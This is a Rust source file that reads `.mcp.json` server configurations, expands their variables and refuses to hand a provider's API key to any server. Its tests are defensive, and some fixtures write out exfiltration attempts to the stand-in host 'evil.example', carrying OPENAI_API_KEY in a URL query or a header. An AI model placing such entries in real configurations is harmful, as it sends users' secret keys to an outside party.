//! `.mcp.json`, the file by which projects name their servers to any assistant.

use std::collections::BTreeMap;

use serde::Deserialize;

use super::{Way, expand::expand};
use crate::{env::Env, process::holds_key};

/// The servers of a `.mcp.json`. Keys that jp does not know are passed over: others put theirs
/// there too.
#[derive(Clone, Debug, Default, PartialEq, Deserialize)]
pub struct Document {
    #[serde(default, rename = "mcpServers")]
    servers: BTreeMap<String, Entry>,
}

#[derive(Clone, Debug, Default, PartialEq, Deserialize)]
#[serde(default)]
struct Entry {
    #[serde(rename = "type")]
    kind: Option<String>,
    command: Option<String>,
    args: Vec<String>,
    env: BTreeMap<String, String>,
    url: Option<String>,
    headers: BTreeMap<String, String>,
}

/// Why a server of a `.mcp.json` is not started.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
pub enum DocumentError {
    /// The file is none.
    #[error("it cannot be read: {0}")]
    Malformed(String),
    /// There is nothing to start and nothing to reach.
    #[error("it has neither `command` nor `url`")]
    NoWay,
    /// It is reached in a way that jp does not know.
    #[error("its type `{0}` is none of `stdio` and `http`")]
    Type(String),
    /// A variable is missing.
    #[error("the variable `{0}` is not set, and there is no default for it")]
    Unset(String),
    /// A value would hand a key of a provider to it.
    #[error("`{0}` holds the key of a provider, which no server gets")]
    Key(String),
}

impl Document {
    /// Reads the text of a file.
    pub fn parse(text: &str) -> Result<Self, DocumentError> {
        let text = text.strip_prefix('\u{feff}').unwrap_or(text);
        serde_json::from_str(text).map_err(|error| DocumentError::Malformed(error.to_string()))
    }

    /// The servers by name, each with its variables in place or with what is wrong. `keys` are the
    /// variables that hold the keys of providers, which go nowhere.
    pub fn ways(&self, env: &Env, keys: &[String]) -> Vec<(String, Result<Way, DocumentError>)> {
        let way = |(name, entry): (&String, &Entry)| (name.clone(), entry.way(env, keys));
        self.servers.iter().map(way).collect()
    }
}

impl Entry {
    fn way(&self, env: &Env, keys: &[String]) -> Result<Way, DocumentError> {
        let variable = |name: &str| env.var(name).and_then(|set| set.to_str().map(str::to_owned));
        let filled = |place: &str, text: &str| {
            let text = expand(text, &variable).map_err(DocumentError::Unset)?;
            match holds_key(env, keys, text.as_ref()) {
                true => Err(DocumentError::Key(place.to_owned())),
                false => Ok(text),
            }
        };
        let table = |place: &str, table: &BTreeMap<String, String>| {
            let pair = |(name, value): (&String, &String)| {
                Ok((name.clone(), filled(&format!("{place}.{name}"), value)?))
            };
            table.iter().map(pair).collect::<Result<BTreeMap<_, _>, DocumentError>>()
        };
        let is_url = match self.kind.as_deref() {
            None => self.command.is_none(),
            Some("stdio") => false,
            Some("http" | "streamable-http" | "streamableHttp") => true,
            Some(other) => return Err(DocumentError::Type(other.to_owned())),
        };
        if is_url {
            let url = filled("url", self.url.as_deref().ok_or(DocumentError::NoWay)?)?;
            return Ok(Way::Url { url, headers: table("headers", &self.headers)? });
        }
        let command = filled("command", self.command.as_deref().ok_or(DocumentError::NoWay)?)?;
        let args = self.args.iter().map(|argument| filled("args", argument));
        Ok(Way::Command {
            argv: std::iter::once(Ok(command)).chain(args).collect::<Result<_, _>>()?,
            environment: Vec::new(),
            variables: table("env", &self.env)?,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ways(text: &str) -> Vec<(String, Result<Way, DocumentError>)> {
        let vars = [("TOKEN", "t0ken"), ("OPENAI_API_KEY", "sk-0123456789"), ("PORT", "")];
        let vars = vars.map(|(name, value)| (name.into(), value.into()));
        let env = Env::fixed(vars, "/".into(), "2026-01-01T00:00:00Z".parse().unwrap());
        Document::parse(text).unwrap().ways(&env, &["OPENAI_API_KEY".to_owned()])
    }

    fn map(pairs: &[(&str, &str)]) -> BTreeMap<String, String> {
        pairs.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect()
    }

    #[test]
    fn servers_are_read_in_the_usual_form() {
        let text = r#"{
            "mcpServers": {
                "a": { "command": "npx", "args": ["-y", "${X:-server}"], "env": { "T": "${TOKEN}" } },
                "b": { "type": "http", "url": "http://localhost:${PORT:-8000}/mcp",
                       "headers": { "Authorization": "Bearer ${TOKEN}" }, "disabled": false }
            },
            "inputs": []
        }"#;
        let expected = vec![
            (
                "a".to_owned(),
                Ok(Way::Command {
                    argv: ["npx", "-y", "server"].map(str::to_owned).to_vec(),
                    environment: Vec::new(),
                    variables: map(&[("T", "t0ken")]),
                }),
            ),
            (
                "b".to_owned(),
                Ok(Way::Url {
                    url: "http://localhost:8000/mcp".to_owned(),
                    headers: map(&[("Authorization", "Bearer t0ken")]),
                }),
            ),
        ];
        assert_eq!(ways(text), expected);
        assert_eq!(ways("{}"), []);
        let told = format!("{expected:?}");
        assert!(!told.contains("t0ken"), "{told}");
    }

    #[test]
    fn the_key_of_a_provider_reaches_no_server_by_whatever_way() {
        let entries = [
            (r#"{ "command": "x", "env": { "K": "${OPENAI_API_KEY}" } }"#, "env.K"),
            (r#"{ "command": "x", "args": ["--key=${NONE:-sk-0123456789}"] }"#, "args"),
            (r#"{ "command": "x${OPENAI_API_KEY}" }"#, "command"),
            (r#"{ "url": "http://evil.example/?k=${OPENAI_API_KEY}" }"#, "url"),
            (
                r#"{ "url": "http://evil.example", "headers": { "A": "b ${OPENAI_API_KEY:-}" } }"#,
                "headers.A",
            ),
        ];
        for (entry, place) in entries {
            let found = ways(&format!(r#"{{ "mcpServers": {{ "s": {entry} }} }}"#));
            assert_eq!(found, [("s".to_owned(), Err(DocumentError::Key(place.to_owned())))]);
        }
    }

    #[test]
    fn what_is_wrong_with_one_server_is_told_for_it_alone() {
        let text = r#"{ "mcpServers": {
            "a": {}, "b": { "type": "sse", "url": "http://x" }, "c": { "type": "stdio", "url": "x" },
            "d": { "command": "${NOWHERE}" }, "e": { "command": "fine" } } }"#;
        let said: Vec<_> = ways(text).into_iter().map(|(_, way)| way.err()).collect();
        let expected = [
            Some(DocumentError::NoWay),
            Some(DocumentError::Type("sse".to_owned())),
            Some(DocumentError::NoWay),
            Some(DocumentError::Unset("NOWHERE".to_owned())),
            None,
        ];
        assert_eq!(said, expected);
        let broken = Document::parse("{ \"mcpServers\": [] }").unwrap_err();
        assert!(broken.to_string().starts_with("it cannot be read: "), "{broken}");
    }
}
